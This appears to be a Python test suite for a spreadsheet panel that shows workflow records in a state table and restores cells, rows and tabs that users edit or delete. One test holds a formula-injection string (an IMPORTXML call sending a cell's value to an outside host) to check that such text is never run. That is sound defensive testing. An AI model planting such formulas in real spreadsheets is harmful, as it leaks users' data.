"""The state table: what people see of a record, and what happens to what they type."""

from __future__ import annotations

from typing import Any

from tests.panel.conftest import Sheet, asking, opened

SEVEN = ["record_id", "status", "next_step", "dedupe_key", "last_run_id", "last_error", "updated_at"]


async def test_the_table_shows_each_record_in_its_seven_columns_and_why(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        row = sheet.row("a1")

        assert sheet.grid()[0][:11] == [*SEVEN, "why", "asks", "command", "reply"]
        assert row["status"] == "NEEDS_APPROVAL" and row["next_step"] == "review"
        assert row["dedupe_key"] == "publish|a1|review" and row["updated_at"].endswith("Z")
        assert "asks anybody: \"Publish 'tea'?\"" in row["why"] and "ago" not in row["why"]
        assert row["asks"].startswith("Publish 'tea'? — About tea. [")

        await panel.client.answer("a1", "approve")
        await panel.client.work()
        await panel.look()
        assert sheet.row("a1")["status"] == "DONE" and sheet.row("a1")["next_step"] == ""


async def test_the_header_is_frozen_engine_columns_warn_and_statuses_have_colours(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)

    fields = "sheets(properties(title,hidden,gridProperties.frozenRowCount),protectedRanges,conditionalFormats)"
    tabs = {tab["properties"]["title"]: tab for tab in sheet.meta(fields)["sheets"]}
    table = tabs["state_table"]
    assert table["properties"]["gridProperties"]["frozenRowCount"] == 1
    assert all(held["warningOnly"] for held in table["protectedRanges"]) and len(table["protectedRanges"]) == 2
    words = {rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for rule in table["conditionalFormats"]}
    assert {"DONE", "ERROR", "NEEDS_APPROVAL", "RUNNING"} <= words
    found = sheet.meta("sheets(properties.title,data.rowData.values.effectiveFormat.backgroundColor)")
    [drawn] = [tab for tab in found["sheets"] if tab["properties"]["title"] == "state_table"]
    shown = drawn["data"][0]["rowData"][1]["values"][1]["effectiveFormat"]["backgroundColor"]
    assert [round(255 * shown.get(name, 0)) for name in ("red", "green", "blue")] == [0xFF, 0xF2, 0xCC]
    for name in ("quire_state", "quire_inbox"):
        assert tabs[name]["properties"]["hidden"] and not tabs[name]["protectedRanges"][0].get("warningOnly")


async def test_a_row_offers_the_words_that_are_legal_for_it(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await panel.client.start("board", {}, id="b1")
        await asking(panel)
        await panel.look()

    found = sheet.meta("sheets(properties.title,data.rowData.values(effectiveValue,dataValidation.condition))")
    [table] = [tab for tab in found["sheets"] if tab["properties"]["title"] == "state_table"]
    offered = {}
    for row in table["data"][0]["rowData"][1:]:
        cells = row.get("values", [])
        name = cells[0].get("effectiveValue", {}).get("stringValue") if cells else None
        rules = [cell["dataValidation"]["condition"]["values"] for cell in cells if "dataValidation" in cell]
        if name and rules:
            offered[name] = [value["userEnteredValue"] for value in rules[0]]
    assert offered == {"a1": ["APPROVE", "REWRITE", "REJECT", "CANCEL"], "b1": ["DOING", "CANCEL"]}


async def test_text_that_looks_like_a_formula_is_shown_and_never_run(sheet: Sheet) -> None:
    evil = '=IMPORTXML("http://example.org/?"&A1,"//a")'
    async with opened(sheet) as panel:
        await asking(panel, evil, keyword=evil)
        await panel.look()
        [row] = sheet.rows()

    assert row["record_id"] == evil and row["status"] == "NEEDS_APPROVAL"
    assert sheet.grid("quire_state", "FORMULA")[2][0] == evil


async def test_people_sort_and_their_own_columns_stay_beside_the_same_record(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        for name in ("a1", "b2", "c3"):
            await asking(panel, name, keyword=name)
        sheet.person("edit", cell="L1", text="mine")
        for name in ("a1", "b2", "c3"):
            sheet.type(name, "mine", f"note on {name}")
        sheet.person("sort", range="A2:P5", column=1)
        sheet.person("insert_columns", at=3)
        await panel.client.answer("b2", "reject")
        await panel.client.work()
        await panel.look()

        assert [row["record_id"] for row in sheet.rows()] == ["a1", "b2", "c3"]
        assert all(row["mine"] == f"note on {row['record_id']}" for row in sheet.rows())
        assert sheet.row("b2")["status"] == "DONE" and sheet.row("c3")["status"] == "NEEDS_APPROVAL"


async def test_an_edited_engine_cell_is_put_back_with_a_note(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        for column, text in (("status", "DONE"), ("record_id", "other"), ("updated_at", "2026-01-02"), ("why", "=1+1")):
            sheet.type(sheet.rows()[0]["record_id"], column, text)
        sheet.person("clear", range="C2")
        await panel.look()

        row = sheet.row("a1")
        assert row["status"] == "NEEDS_APPROVAL" and row["next_step"] == "review" and "asks anybody" in row["why"]
        assert "put back what was typed over: record_id ('other'), status ('DONE')" in row["reply"]
        assert (await panel.client.get("a1")).status == "NEEDS_APPROVAL"


async def test_a_pasted_row_is_named_and_one_of_the_two_is_the_row(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        sheet.person("paste_rows", at=2, count=1, to=3)
        await panel.look()
        copies = [row for row in sheet.rows() if row["reply"].startswith("a copy of another row")]
        assert len(sheet.rows()) == 2 and len(copies) == 1

        sheet.person("edit", cell=f"J{copies[0]['#']}", text="APPROVE")
        await panel.look()
        assert (await panel.client.get("a1")).status == "NEEDS_APPROVAL"
        original = next(row for row in sheet.rows() if row["#"] != copies[0]["#"])
        sheet.person("delete_rows", at=original["#"], count=1)
        await panel.look()
        assert [row["reply"].startswith("APPROVE: done") for row in sheet.rows()] == [True]


async def test_a_deleted_row_comes_back_if_its_record_is_open_and_stays_away_if_it_has_ended(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel, "a1")
        await asking(panel, "b2")
        await panel.client.answer("a1", "reject")
        await panel.client.work()
        await panel.look()
        sheet.person("delete_rows", at=2, count=2)
        await panel.look()

        assert [row["record_id"] for row in sheet.rows()] == ["b2"]


async def test_deleted_columns_and_tabs_come_back(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        sheet.person("delete_columns", at=2, count=1)
        await panel.look()
        assert sheet.row("a1")["status"] == "NEEDS_APPROVAL"

        sheet.person("rename_sheet", title="Übersicht")
        sheet.person("delete_sheet", "quire_state")
        await panel.look()
        await panel.look()
        assert sheet.row("a1", "Übersicht")["status"] == "NEEDS_APPROVAL"
        assert len(sheet.rows("Übersicht")) == 1

        sheet.person("delete_sheet", "Übersicht")
        await panel.look()
        assert sheet.row("a1")["status"] == "NEEDS_APPROVAL"


async def test_a_sorted_hidden_tab_is_put_back(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        for name in ("a1", "b2", "c3"):
            await asking(panel, name, keyword=name)
        sheet.person("sort", "quire_state", range="A2:M5", column=1, descending=True)
        await panel.look()

        assert {row["record_id"]: "asks" in row["why"] and row["record_id"] in row["asks"] for row in sheet.rows()} == {
            "a1": True,
            "b2": True,
            "c3": True,
        }


async def test_an_edited_hidden_cell_is_put_back_with_a_note_though_its_record_does_not_change(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        sheet.person("edit", "quire_state", cell="B3", text="DONE")
        assert sheet.row("a1")["status"] == "DONE"

        await panel.look()

        row = sheet.row("a1")
        assert row["status"] == "NEEDS_APPROVAL"
        assert row["reply"] == "put back what was changed in the hidden tab: status"
        sheet.forget_counters()
        await panel.look()
        assert "kind sheets.spreadsheets.batchUpdate" not in sheet.counters()


async def test_a_new_process_goes_on_with_the_rows_that_are_there(sheet: Sheet, tmp_path: object) -> None:
    ledger = f"sqlite:///{tmp_path}/ledger.db"
    async with opened(sheet, ledger) as panel:
        await asking(panel)
        await panel.lease.release()
    async with opened(sheet, ledger) as panel:
        await panel.client.answer("a1", "reject")
        await panel.client.work()
        await panel.look()

        assert [(row["record_id"], row["status"]) for row in sheet.rows()] == [("a1", "DONE")]


async def test_only_one_of_two_panels_draws(sheet: Sheet, tmp_path: object) -> None:
    ledger = f"sqlite:///{tmp_path}/ledger.db"
    async with opened(sheet, ledger) as panel, opened(sheet, ledger) as other:
        await asking(panel)
        assert await other.look() is False
        await panel.lease.release()
        await other.look()

        assert len(sheet.rows()) == 1


async def test_without_conditional_filling_cells_are_written_by_their_place(sheet: Sheet) -> None:
    sheet("POST", "/emulator/settings", {"switches": {"find_replace_sees_blanks": False}})
    async with opened(sheet) as panel:
        await asking(panel)
        sheet.person("clear", range="B2")
        await panel.look()

        assert not panel.tabs.blanks and sheet.row("a1")["status"] == "NEEDS_APPROVAL"


async def test_rows_inserted_and_deleted_in_the_hidden_tab_are_no_harm(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        for name in ("a1", "b2", "c3"):
            await asking(panel, name, keyword=name)
        sheet.person("insert_rows", "quire_state", at=3, count=2)
        await panel.look()
        sheet.person("delete_rows", "quire_state", at=6, count=1)
        await panel.look()
        await panel.look()

        assert sorted(row["record_id"] for row in sheet.rows()) == ["a1", "b2", "c3"]
        assert all(row["record_id"] in row["asks"] and row["status"] == "NEEDS_APPROVAL" for row in sheet.rows())


async def test_a_renamed_hidden_tab_is_still_the_hidden_tab(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        sheet.person("rename_sheet", "quire_state", title="do not touch")
        sheet.type("a1", "status", "DONE")
        await panel.look()

        assert sheet.row("a1")["status"] == "NEEDS_APPROVAL"


async def test_a_cell_that_moved_between_our_read_and_our_write_is_not_written_over(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await asking(panel)
        sheet.person("insert_columns", at=1, count=1)
        sheet.person("edit", cell="M1", text="mine")
        sheet.type("a1", "mine", "keep me")
        await panel.look()
        sheet.type("a1", "reply", "typed over")
        sheet.person("clear", range=f"{sheet.column('why')}2")
        write = panel.book.write

        async def meanwhile(*args: Any, **kwargs: Any) -> Any:
            sheet.person("delete_columns", at=1, count=1)
            return await write(*args, **kwargs)

        panel.book.write = meanwhile  # type: ignore[method-assign]
        await panel.look()
        panel.book.write = write  # type: ignore[method-assign]
        assert sheet.row("a1")["mine"] == "keep me"
        await panel.look()

        row = sheet.row("a1")
        assert row["mine"] == "keep me" and "asks anybody" in row["why"] and row["asks"].startswith("Publish")
        assert "put back what was typed over: reply ('typed over')" in row["reply"]


async def test_declared_states_are_shown_as_themselves(sheet: Sheet) -> None:
    async with opened(sheet) as panel:
        await panel.client.start("board", {}, id="b1")
        await panel.look()
        assert sheet.row("b1")["status"] == "TODO"
        await panel.client.move("b1", "DOING")
        await panel.look()
        assert sheet.row("b1")["status"] == "DOING"
        await panel.client.move("b1", "DONE")
        await panel.look()
        sheet.person("delete_rows", at=2, count=1)
        await panel.look()
        assert sheet.rows() == []
